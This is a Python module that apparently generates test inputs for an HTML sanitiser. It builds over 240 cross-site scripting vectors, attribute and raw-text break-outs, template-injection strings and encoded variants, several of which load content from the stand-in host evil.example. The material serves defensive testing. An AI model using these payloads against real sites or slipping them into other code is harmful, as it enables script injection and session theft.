"""Texts that would run, load or break out, were a page to take them for more than words."""

from __future__ import annotations

import html
from urllib.parse import quote

from plan_cases import HOSTILE

RUN = "alert(window.__pwned=1)"
FAR = "https://evil.example/x"
TEMPLATES = (
    f"<script>{RUN}</script>",
    f"<script src={FAR}></script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href={FAR}#a></svg>",
    f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={FAR}></object>",
    f"<embed src={FAR}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<a href=javascript:{RUN}>tv</a>",
    f"<form action={FAR}><button formaction=javascript:{RUN}>go</button></form>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<base href={FAR}>",
    f"<link rel=stylesheet href={FAR}>",
    f"<style>@import '{FAR}';*{{background:url({FAR})}}</style>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<xss style=animation-name:a onanimationstart={RUN}>",
    f"<template><script>{RUN}</script></template><slot onslotchange={RUN}>",
    f"<marquee onstart={RUN}>",
)
CONTEXTS = (  # where a text may stand: between tags, in an attribute, in raw text, in a comment
    "{}",
    '">{}',
    "'>{}",
    "</title></style></textarea></noscript></script>{}",
    "--> ]]>{}",
    "</text></svg></td></table></details></main>{}",
)
INSIDE = (  # no bracket is needed within an attribute, an address, a style or a template
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f"x onpointerenter={RUN} ",
    f"` onclick=`{RUN}`",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"expression({RUN})",
    f"url(javascript:{RUN})",
    "{{ [].__class__.__base__.__subclasses__() }}",
    "{% import 'os' as os %}{{ os }}",
    "${" + RUN + "} #{" + RUN + "} <%= 7*7 %>",
    "\\u003cscript\\u003e" + RUN,
    "*/" + RUN + "/*",
    "\n" + RUN + "\n//",
)
WIDE = str.maketrans({"<": "＜", ">": "＞", '"': "＂", "'": "＇"})
WORDS = ("W" * 200, "é" + "\u0301" * 60, "\u05e9\u05dc\u05d5\u05dd " * 12, "📺" * 40, "a/b@c|d;e=f")


def _encoded(text: str) -> tuple[str, ...]:
    """The same otherwise written: what decodes twice falls for one of these."""
    return (
        html.escape(text),
        html.escape(html.escape(text)),
        quote(text),
        text.replace("<", "<\x00").replace("on", "o\x00n"),
        text.translate(WIDE),
        text.swapcase().replace(RUN.swapcase(), RUN),
    )


def _all() -> tuple[str, ...]:
    found = [context.format(text) for context in CONTEXTS for text in TEMPLATES]
    for place, text in enumerate(TEMPLATES):
        forms = _encoded(text)
        found += [forms[place % 6], forms[(place + 2) % 6], forms[(place + 4) % 6]]
    return tuple(dict.fromkeys((*HOSTILE, *found, *INSIDE, *WORDS)))


PAYLOADS = _all()
"""240 and more of them, all unlike."""
